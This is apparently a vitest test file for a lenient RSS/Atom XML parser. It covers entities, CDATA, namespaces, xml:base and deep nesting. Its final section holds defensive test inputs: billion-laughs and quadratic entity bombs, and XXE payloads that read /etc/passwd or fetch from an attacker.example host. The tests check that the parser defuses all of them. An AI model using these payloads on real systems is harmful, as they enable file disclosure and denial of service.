import { describe, expect, it } from 'vitest';
import { parseXml } from './parse-xml.ts';
import type { XmlElement } from './xml-node.ts';

const first = (el: XmlElement | undefined, key: string): XmlElement | undefined =>
  el?.children.find((c): c is XmlElement => typeof c !== 'string' && c.key === key);
const text = (el: XmlElement | undefined): string =>
  (el?.children ?? []).map((c) => (typeof c === 'string' ? c : text(c))).join('');

describe('parseXml: lenient where feeds are sloppy', () => {
  it.each([
    ['bare ampersand', '<t>AT&T & co</t>', 'AT&T & co'],
    ['undeclared entity kept as written', '<t>a &bogus; b</t>', 'a &bogus; b'],
    ['HTML named entities', '<t>caf&eacute;&nbsp;&rsquo;</t>', 'café\u00a0’'],
    ['numeric references', '<t>&#233;&#x2019;&#128;</t>', 'é’€'],
    ['invalid numeric reference kept', '<t>&#0;&#xD800;&#99999999;</t>', '&#0;&#xD800;&#99999999;'],
    ['UTF-8 escaped one reference per byte (double encoding) is repaired', '<t>&#226;&#128;&#166;</t>', '…'],
    ['but separate references that merely look like it are not', '<t>&#233;&#x2019;&#128;x</t>', 'é’€x'],
    ['CDATA', '<t><![CDATA[<b>x</b> & y]]></t>', '<b>x</b> & y'],
    ['stray "<" is text', '<t>1 < 2</t>', '1 < 2'],
    ['mismatched end tag ignored', '<t>a</x>b</t>', 'ab'],
    ['truncated document keeps what was read', '<t>hello <b>wor', 'hello wor'],
    ['unterminated CDATA', '<t><![CDATA[abc', 'abc'],
  ])('%s', (_name, xml, expected) => {
    expect(text(parseXml(xml, '').root)).toBe(expected);
  });

  it('closes unclosed children at their parent end tag', () => {
    const root = parseXml('<a><b><br>x</b><c>y</c></a>', '').root;
    expect(first(root, 'c') && text(first(root, 'c'))).toBe('y');
  });

  it('normalizes well-known namespaces whatever the prefix, and lower-cases keys', () => {
    const root = parseXml('<rss xmlns:c="http://purl.org/rss/1.0/modules/content/"><c:Encoded>x</c:Encoded><dc:creator>y</dc:creator></rss>', '').root;
    expect(root?.children.map((c) => (typeof c === 'string' ? c : c.key))).toEqual(['content:encoded', 'dc:creator']);
  });

  it('gives Atom elements plain keys in an Atom document and atom: keys elsewhere', () => {
    const atom = parseXml('<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>', '').root;
    expect(first(atom, 'title')).toBeDefined();
    const rss = parseXml('<rss xmlns:atom="http://www.w3.org/2005/Atom"><atom:link href="x"/></rss>', '').root;
    expect(first(rss, 'atom:link')?.attrs['href']).toBe('x');
  });

  it('scopes xml:base per element', () => {
    const root = parseXml('<feed xml:base="http://a.example/dir/"><e xml:base="sub/"><x/></e><y/></feed>', 'http://doc.example/feed').root;
    expect(root?.base).toBe('http://a.example/dir/');
    expect(first(first(root, 'e'), 'x')?.base).toBe('http://a.example/dir/sub/');
    expect(first(root, 'y')?.base).toBe('http://a.example/dir/');
  });

  it('flattens absurdly deep nesting instead of recursing into it', () => {
    const xml = `<r>${'<d>'.repeat(100_000)}x${'</d>'.repeat(100_000)}</r>`;
    expect(text(parseXml(xml, '').root)).toBe('x');
  });
});

describe('parseXml: entities are bounded and never external', () => {
  it('expands internal entities declared in the DOCTYPE', () => {
    const root = parseXml('<!DOCTYPE r [<!ENTITY who "world">]><r>hello &who;</r>', '').root;
    expect(text(root)).toBe('hello world');
  });

  it('defuses billion laughs: bounded output', () => {
    let decl = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) decl += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    const xml = `<!DOCTYPE r [${decl}]><r>${'&lol9;'.repeat(1000)}</r>`;
    const out = text(parseXml(xml, '').root);
    expect(out.length).toBeLessThan(2_000_000);
  });

  it('defuses quadratic blowup (one big entity referenced many times)', () => {
    const xml = `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(50_000)}">]><r>${'&a;'.repeat(50_000)}</r>`;
    expect(text(parseXml(xml, '').root).length).toBeLessThan(2_000_000);
  });

  it.each([
    ['SYSTEM file', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'],
    ['SYSTEM http', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/x">]><r>&xxe;</r>'],
    ['PUBLIC', '<!DOCTYPE r [<!ENTITY xxe PUBLIC "-//X//Y" "file:///etc/passwd">]><r>&xxe;</r>'],
    ['parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r>&e;</r>'],
  ])('XXE (%s) is left unexpanded', (_name, xml) => {
    const out = text(parseXml(xml, '').root);
    expect(out).toMatch(/^&\w+;$/);
  });
});
